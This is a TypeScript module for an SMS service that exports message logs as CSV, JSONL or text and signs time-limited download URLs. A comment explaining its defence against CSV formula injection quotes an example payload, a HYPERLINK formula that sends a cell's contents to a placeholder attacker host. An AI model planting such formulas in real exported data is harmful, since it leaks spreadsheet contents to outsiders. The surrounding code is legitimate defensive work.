import { createHmac, timingSafeEqual } from 'node:crypto';
import { encodeGlobalID } from '@pothos/plugin-relay';
import { Direction, MessageStatus, type Prisma } from '../db/client';
import { allProviders } from '../providers';
import type { Services } from '../services';
import { SwitchboardError } from '../errors';
import type { MessageFilter } from './delivery-log';

/**
 * Export of the delivery log or of one conversation as CSV, JSON Lines or a plain-text
 * transcript. Rows are read in keyset-paginated batches by (createdAt, id), oldest first, and
 * each batch is encoded into UTF-8 pieces (exportChunks), so an export of any size holds one
 * batch in memory at a time; the HTTP route (src/http/export.ts) writes the pieces and waits for
 * the socket to drain before the next batch is read.
 */

export const EXPORT_FORMATS = ['csv', 'jsonl', 'txt'] as const;
export type ExportFormat = (typeof EXPORT_FORMATS)[number];

/**
 * Rows per batch: at most EXPORT_BATCH_SIZE, and fewer when messages are long, so that a batch
 * holds about EXPORT_BATCH_CHARS characters of bodies (1 MB as UTF-16 strings): 1,000 rows of
 * 500 characters, ~300 of 1,600 (the longest message). Reading and encoding a batch allocates a
 * few times that; kept well under V8's young generation (16 MB), a batch dies young instead of
 * being promoted to the old generation, which only a full GC frees (see exportChunks).
 */
export const EXPORT_BATCH_SIZE = 1000;
export const EXPORT_BATCH_CHARS = 500_000;
const EXPORT_BATCH_MIN = 50;
/** How long a signed download URL stays valid. */
export const EXPORT_TOKEN_TTL_MS = 15 * 60_000;

export const exportSelect = {
  id: true,
  createdAt: true,
  direction: true,
  status: true,
  provider: true,
  from: true,
  to: true,
  body: true,
  mediaUrls: true,
  segments: true,
  encoding: true,
  errorCode: true,
  errorMessage: true,
  providerMessageId: true,
  conversationId: true,
} satisfies Prisma.MessageSelect;

export type ExportRow = Prisma.MessageGetPayload<{ select: typeof exportSelect }>;

/**
 * The messages matching `where`, oldest first, in batches of at most `batchSize` rows (fewer for
 * long messages: EXPORT_BATCH_CHARS). Empty each batch once done with it (see exportChunks).
 */
export async function* exportBatches(services: Services, where: Prisma.MessageWhereInput, batchSize = EXPORT_BATCH_SIZE): AsyncGenerator<ExportRow[]> {
  let after: { createdAt: Date; id: string } | null = null;
  let take = batchSize;
  for (;;) {
    const batch: ExportRow[] = await services.db.message.findMany({
      select: exportSelect,
      where: after
        ? {
            AND: [
              where,
              // `createdAt >= c` on its own keeps the (…, createdAt) index range usable; the OR
              // then skips the rows of that same instant already written.
              { createdAt: { gte: after.createdAt } },
              { OR: [{ createdAt: { gt: after.createdAt } }, { id: { gt: after.id } }] },
            ],
          }
        : where,
      orderBy: [{ createdAt: 'asc' }, { id: 'asc' }],
      take,
    });
    const last = batch.at(-1);
    if (!last) return;
    const more = batch.length === take;
    const charsPerRow = batch.reduce((sum, row) => sum + row.body.length + row.mediaUrls.length, 0) / batch.length;
    yield batch;
    if (!more) return;
    after = { createdAt: last.createdAt, id: last.id };
    take = Math.max(EXPORT_BATCH_MIN, Math.min(batchSize, Math.floor(EXPORT_BATCH_CHARS / Math.max(charsPerRow, 1))));
  }
}

// ---------------------------------------------------------------------------------------------
// Formats

export const CSV_COLUMNS = [
  'id',
  'createdAt',
  'direction',
  'status',
  'provider',
  'from',
  'to',
  'body',
  'mediaUrls',
  'segments',
  'encoding',
  'errorCode',
  'errorMessage',
  'providerMessageId',
  'conversationId',
] as const;

/** One exported message: the same fields, in the same order, in CSV and JSON Lines. */
export function exportRecord(row: ExportRow) {
  return {
    id: encodeGlobalID('Message', row.id),
    createdAt: row.createdAt.toISOString(),
    direction: row.direction,
    status: row.status,
    provider: row.provider,
    from: row.from,
    to: row.to,
    body: row.body,
    mediaUrls: mediaUrlsOf(row),
    segments: row.segments,
    encoding: row.encoding,
    errorCode: row.errorCode,
    errorMessage: row.errorMessage,
    providerMessageId: row.providerMessageId,
    conversationId: row.conversationId ? encodeGlobalID('Conversation', row.conversationId) : null,
  };
}

function mediaUrlsOf(row: ExportRow): string[] {
  try {
    const urls = JSON.parse(row.mediaUrls) as unknown;
    return Array.isArray(urls) ? urls.map(String) : [];
  } catch {
    return [];
  }
}

/** RFC 4180: a field with a comma, a double quote or a line break is quoted, quotes doubled. */
export function csvField(value: string | number | null): string {
  if (value === null) return '';
  const text = String(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

const CRLF = '\r\n';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/**
 * A spreadsheet opening the CSV runs a cell that starts with = + - @ (or a tab or CR before
 * one) as a formula: a customer's SMS reading `=HYPERLINK("https://evil.example/?"&A1)` would
 * run on the exporter's machine. Such cells get a leading `'`, which spreadsheets show as text.
 * A plain number (`+14155552671`, `-3`) evaluates to itself, so phone numbers are kept as is.
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

export function csvLine(row: ExportRow): string {
  const record = exportRecord(row);
  // Media URLs are space-separated: a URL cannot hold an unencoded space.
  return (
    CSV_COLUMNS.map((column) => {
      const value = column === 'mediaUrls' ? record.mediaUrls.join(' ') : record[column];
      return csvField(typeof value === 'string' ? neutralizeFormula(value) : value);
    }).join(',') + CRLF
  );
}

export function jsonLine(row: ExportRow): string {
  // JSON.stringify escapes U+2028/U+2029 and every control character, so one message is one line.
  return `${JSON.stringify(exportRecord(row))}\n`;
}

/** `2026-11-27 10:00:00Z  +14155552671 → +14155552680  [DELIVERED]  body` */
export function transcriptLine(row: ExportRow): string {
  const at = `${row.createdAt.toISOString().slice(0, 19).replace('T', ' ')}Z`;
  const status = row.errorCode ? `${row.status} ${row.errorCode}` : row.status;
  const head = `${at}  ${row.from} → ${row.to}  [${status}]  `;
  // Continuation lines of a multi-line body are indented under the body's first line.
  const body = row.body.replace(/\r\n?/g, '\n').replaceAll('\n', `\n${' '.repeat(head.length)}`);
  const media = mediaUrlsOf(row);
  return `${head}${body}${media.length ? `${body ? '  ' : ''}[media: ${media.join(' ')}]` : ''}\n`;
}

export interface ExportEncoder {
  contentType: string;
  extension: string;
  header: string;
  line(row: ExportRow): string;
}

export const ENCODERS: Record<ExportFormat, ExportEncoder> = {
  csv: { contentType: 'text/csv; charset=utf-8; header=present', extension: 'csv', header: CSV_COLUMNS.join(',') + CRLF, line: csvLine },
  jsonl: { contentType: 'application/jsonl; charset=utf-8', extension: 'jsonl', header: '', line: jsonLine },
  txt: { contentType: 'text/plain; charset=utf-8', extension: 'txt', header: '', line: transcriptLine },
};

const CHUNK_CHARS = 32 * 1024;

/**
 * The export's bytes (the header, then every message) in UTF-8 pieces of about 32,000
 * characters, for the HTTP route to write one at a time, waiting for 'drain'.
 *
 * Each batch is encoded whole and then emptied before its pieces are handed out, so that while
 * a slow reader holds the export up, the server holds one batch's bytes (outside V8's heap), not
 * its rows. Emptied, because a Prisma query promise keeps its result reachable from V8's old
 * generation until the next full GC (the AccessorPair of the promise's `spec` getter, which V8
 * allocates there, pins the closure that caches the result): a batch left whole survives every
 * young-generation GC, and the old generation fills with ~100 MB of dead batches before V8 runs a
 * full GC (bench/export.ts).
 */
export async function* exportChunks(services: Services, where: Prisma.MessageWhereInput, encoder: ExportEncoder): AsyncGenerator<Buffer> {
  if (encoder.header) yield Buffer.from(encoder.header);
  for await (const batch of exportBatches(services, where)) {
    const chunks: Buffer[] = [];
    let text = '';
    for (const row of batch) {
      text += encoder.line(row);
      if (text.length >= CHUNK_CHARS) {
        chunks.push(Buffer.from(text));
        text = '';
      }
    }
    if (text) chunks.push(Buffer.from(text));
    batch.length = 0;
    yield* chunks;
  }
}

export function parseFormat(value: string | null | undefined): ExportFormat {
  const format = (value ?? 'csv').toLowerCase();
  if (!(EXPORT_FORMATS as readonly string[]).includes(format)) {
    throw new SwitchboardError('INVALID_INPUT', `format must be one of ${EXPORT_FORMATS.join(', ')}`, 'format');
  }
  return format as ExportFormat;
}

// ---------------------------------------------------------------------------------------------
// Filters in a URL: the same names as GraphQL's MessageFilter, IDs global, dates ISO 8601.

export const FILTER_PARAMS = ['direction', 'status', 'provider', 'assistantId', 'conversationId', 'from', 'to', 'search', 'createdAfter', 'createdBefore'] as const;

/** The values each enum filter takes: the Prisma enums', and the registered providers' names. */
const ENUMS: Record<'direction' | 'status' | 'provider', () => readonly string[]> = {
  direction: () => Object.values(Direction),
  status: () => Object.values(MessageStatus),
  provider: () => allProviders().map((provider) => provider.name),
};

/** The filter a query string names; `decodeId` turns global IDs into raw ones (one that does not decode should find nothing). */
export function filterFromParams(params: URLSearchParams, decodeId: (typename: string, globalId: string) => string): MessageFilter {
  const filter: MessageFilter = {};
  for (const name of ['direction', 'status', 'provider'] as const) {
    const value = params.get(name);
    if (!value) continue;
    const upper = value.toUpperCase();
    const values = ENUMS[name]();
    if (!values.includes(upper)) throw new SwitchboardError('INVALID_INPUT', `${name} must be one of ${values.join(', ')}`, name);
    (filter as Record<string, string>)[name] = upper;
  }
  const assistantId = params.get('assistantId');
  if (assistantId) filter.assistantId = decodeId('Assistant', assistantId);
  const conversationId = params.get('conversationId');
  if (conversationId) filter.conversationId = decodeId('Conversation', conversationId);
  for (const name of ['from', 'to', 'search'] as const) {
    const value = params.get(name);
    if (value) filter[name] = value;
  }
  for (const name of ['createdAfter', 'createdBefore'] as const) {
    const value = params.get(name);
    if (!value) continue;
    const date = new Date(value);
    if (Number.isNaN(date.getTime())) throw new SwitchboardError('INVALID_INPUT', `${name} must be an ISO 8601 date-time`, name);
    filter[name] = date;
  }
  return filter;
}

/** The query string for a GraphQL MessageFilter (IDs kept global, dates as ISO 8601). */
export function paramsFromFilter(filter: Record<string, unknown> | null | undefined): Record<string, string> {
  const params: Record<string, string> = {};
  for (const name of FILTER_PARAMS) {
    const value = filter?.[name];
    if (value === null || value === undefined || value === '') continue;
    params[name] = value instanceof Date ? value.toISOString() : String(value);
  }
  return params;
}

// ---------------------------------------------------------------------------------------------
// Signed download URLs: `?token=<expiry unix s>.<organization id>.<api key id>.<HMAC-SHA256
// b64url>` over the organization, the API key that asked for the link, the expiry, the path and
// every other query parameter, under a key derived from SECRETS_KEY. A browser can follow the
// URL without an API key for 15 minutes, as long as the key that made it is not revoked (the
// route looks the key up); changing any parameter, the path, the key or the expiry breaks the
// signature.

function tokenKey(secretsKeyHex: string): Buffer {
  return createHmac('sha256', Buffer.from(secretsKeyHex, 'hex')).update('switchboard:export-download-token:v1').digest();
}

/** Who asked for a download link: the organization and the API key it used. */
export interface ExportIssuer {
  organizationId: string;
  apiKeyId: string;
}

function canonical(issuer: ExportIssuer, expires: number, pathname: string, params: URLSearchParams): string {
  const pairs = [...params].filter(([key]) => key !== 'token').sort(([a, x], [b, y]) => (a < b ? -1 : a > b ? 1 : x < y ? -1 : x > y ? 1 : 0));
  return ['v2', issuer.organizationId, issuer.apiKeyId, String(expires), pathname, new URLSearchParams(pairs).toString()].join('\n');
}

function signature(secretsKeyHex: string, text: string): string {
  return createHmac('sha256', tokenKey(secretsKeyHex)).update(text).digest('base64url');
}

/**
 * An absolute URL under PUBLIC_URL that downloads an export for the issuer's organization
 * without an API key until `expiresAt` (or until the issuing key is revoked). `pathname` is
 * unencoded, e.g. `/export/conversations/<global id>`.
 */
export function signedExportUrl(
  services: Pick<Services, 'config'>,
  issuer: ExportIssuer,
  pathname: string,
  params: Record<string, string>,
  now = Date.now(),
): { url: string; expiresAt: Date } {
  const expires = Math.floor((now + EXPORT_TOKEN_TTL_MS) / 1000);
  const query = new URLSearchParams(params);
  const sig = signature(services.config.secretsKey, canonical(issuer, expires, pathname, query));
  query.set('token', `${expires}.${issuer.organizationId}.${issuer.apiKeyId}.${sig}`);
  const encodedPath = pathname.split('/').map(encodeURIComponent).join('/');
  return { url: `${services.config.publicUrl}${encodedPath}?${query}`, expiresAt: new Date(expires * 1000) };
}

export type TokenCheck = ({ ok: true } & ExportIssuer) | { ok: false; reason: 'invalid' | 'expired' };

/**
 * Checks a download token against the request's (decoded) path and query. The caller must still
 * check that the issuing API key is live.
 */
export function verifyExportToken(secretsKeyHex: string, token: string, pathname: string, params: URLSearchParams, now = Date.now()): TokenCheck {
  const match = /^(\d{1,12})\.([A-Za-z0-9_-]{1,64})\.([A-Za-z0-9_-]{1,64})\.([A-Za-z0-9_-]{43})$/.exec(token);
  if (!match) return { ok: false, reason: 'invalid' };
  const [, expiresText, organizationId, apiKeyId, given] = match;
  const expires = Number(expiresText);
  const expected = signature(secretsKeyHex, canonical({ organizationId, apiKeyId }, expires, pathname, params));
  if (!timingSafeEqual(Buffer.from(given), Buffer.from(expected))) return { ok: false, reason: 'invalid' };
  if (expires * 1000 <= now) return { ok: false, reason: 'expired' };
  return { ok: true, organizationId, apiKeyId };
}
